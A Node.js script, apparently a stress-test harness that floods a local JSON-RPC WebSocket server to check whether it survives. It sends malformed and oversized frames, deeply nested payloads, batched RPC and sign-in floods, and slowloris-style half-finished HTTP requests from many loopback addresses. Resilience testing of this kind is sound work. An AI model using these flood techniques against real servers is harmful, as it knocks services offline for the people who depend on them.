/**
 * Attacks a server until it is killed: `node flood-attacker.mjs <url> stranger` or `… user`, whose token
 * comes by the environment variable FLOOD_TOKEN. It prints `attacking` once each kind of attack has begun.
 * Frames are made once and written below the WebSocket: the attack costs less than what it asks for.
 */
import { once } from 'node:events';
import { connect } from 'node:net';
import process from 'node:process';
import { setTimeout as delay } from 'node:timers/promises';

const [, , url, role] = process.argv;
const { hostname, port, host } = new URL(url);
const MIB = 1024 * 1024;
/** Linux answers on all of 127.0.0.0/8: strangers have many addresses. */
/** @param {number} i */
const addressOf = (i) => `127.0.1.${(i % 40) + 1}`;

/** A masked text frame (RFC 6455, section 5.2), or only so many bytes of it. @param {string} text @param {number} bytes */
function frame(text, bytes = Infinity) {
  const payload = Buffer.from(text);
  const head = Buffer.alloc(14);
  head.writeUInt16BE(0x81_ff);
  head.writeBigUInt64BE(BigInt(payload.length), 2);
  return Buffer.concat([head, payload]).subarray(0, bytes);
}
/** @param {string} method @param {object} params */
function call(method, params = {}) {
  return JSON.stringify({ jsonrpc: '2.0', id: 1, method, params });
}
/** @param {string} text @param {number} count */
function repeat(text, count) {
  return Buffer.concat(Array.from({ length: count }, () => frame(text)));
}
/** @param {string} method @param {number} count */
function batch(method, count) {
  return `[${Array.from({ length: count }, () => call(method)).join(',')}]`;
}
/** Members of an object. @param {number} count @param {number} length */
function names(count, length) {
  return Array.from({ length: count }, (_, i) => `"${String(i).padStart(length, 'k')}":0`).join(
    ',',
  );
}

/** What one socket sends, again and again; `isRead` whether it reads the answers. */
const STRANGER = [
  { data: frame('x'.repeat(65_000), 60_000) },
  { data: frame('['.repeat(65_000)) },
  { data: frame(`[${'{},'.repeat(20_000)}1]`) },
  { data: frame(`{${names(900, 60)}}`), isRead: true },
  { data: repeat(batch('rpc.discover', 20), 20) },
  { data: repeat(call('system.getMethodsInfo'), 100) },
  { data: repeat('{}', 5000), isRead: true },
  { data: repeat(call('session.signIn', { token: 'x'.repeat(43) }), 200), isRead: true },
  { data: repeat(call('x'.repeat(1000)), 60), isRead: true },
];
const USER = [
  { data: frame('x'.repeat(2 * MIB), 2 * MIB - 1000) },
  { data: frame('['.repeat(2 * MIB)) },
  { data: frame(`{"jsonrpc":"2.0","id":1,"method":"x","params":[${'[],'.repeat(680_000)}1]}`) },
  {
    data: frame(
      `{"jsonrpc":"2.0","id":1,"method":"session.getUser","params":{${names(32_000, 50)}}}`,
    ),
    isRead: true,
  },
  {
    data: frame(
      `{"jsonrpc":"2.0","id":1,"method":"session.getUser","params":{"${'x'.repeat(1.9 * MIB)}":1}}`,
    ),
    isRead: true,
  },
  { data: repeat(batch('rpc.discover', 20), 50) },
  { data: repeat(batch('token.getAll', 20), 50), isRead: true },
  { data: repeat('1', 9000), isRead: true },
];
const FIRST =
  role === 'user'
    ? frame(call('session.signIn', { token: process.env['FLOOD_TOKEN'] }))
    : undefined;
const ATTACKS = role === 'user' ? USER : STRANGER;
const SOCKETS = 80;
const HALF_REQUESTS = 40;
/** Written at once to one socket at most; the kernel and the server say when there is room for more. */
const TURN_MS = 50;
/** From a connection that was ended to the next: the kernel lets in those who wait one after another. */
const AGAIN_MS = 200;

/** @param {string} localAddress */
function open(localAddress) {
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  socket.on('error', () => undefined);
  return socket;
}

/** Not `once`, which rejects where the connection is reset. @param {import('node:net').Socket} socket */
function closeOf(socket) {
  return new Promise((resolve) => {
    socket.once('close', resolve);
  });
}

/** One socket after another, for ever. @param {number} i */
async function attack(i) {
  const { data, isRead = false } = ATTACKS[i % ATTACKS.length];
  for (;;) {
    const socket = open(addressOf(i));
    const closed = closeOf(socket);
    socket.write(
      `GET /api/ HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`,
    );
    // Its first answers: of the upgrade, and of the sign-in.
    const first = once(socket, 'data').catch(() => undefined);
    await Promise.race([first, closed]);
    if (FIRST !== undefined && !socket.destroyed) {
      socket.write(FIRST);
      await Promise.race([once(socket, 'data').catch(() => undefined), closed]);
    }
    if (isRead) socket.resume();
    else socket.pause();
    const timer = setInterval(() => {
      if (socket.writableLength === 0) socket.write(data);
    }, TURN_MS);
    begun.add(i % ATTACKS.length);
    if (begun.size === ATTACKS.length) say();
    await closed;
    clearInterval(timer);
    await delay(AGAIN_MS);
  }
}

/** Requests whose headers never end. @param {number} i */
async function halfRequest(i) {
  for (;;) {
    const socket = open(addressOf(i));
    socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Filler: ${'x'.repeat(8000)}`);
    await closeOf(socket);
    await delay(AGAIN_MS);
  }
}

const begun = new Set();
let isSaid = false;
function say() {
  if (isSaid) return;
  isSaid = true;
  process.stdout.write('attacking\n');
}

for (let i = 0; i < SOCKETS; i++) void attack(i);
if (role === 'stranger') {
  for (let i = 0; i < HALF_REQUESTS; i++) void halfRequest(i);
}
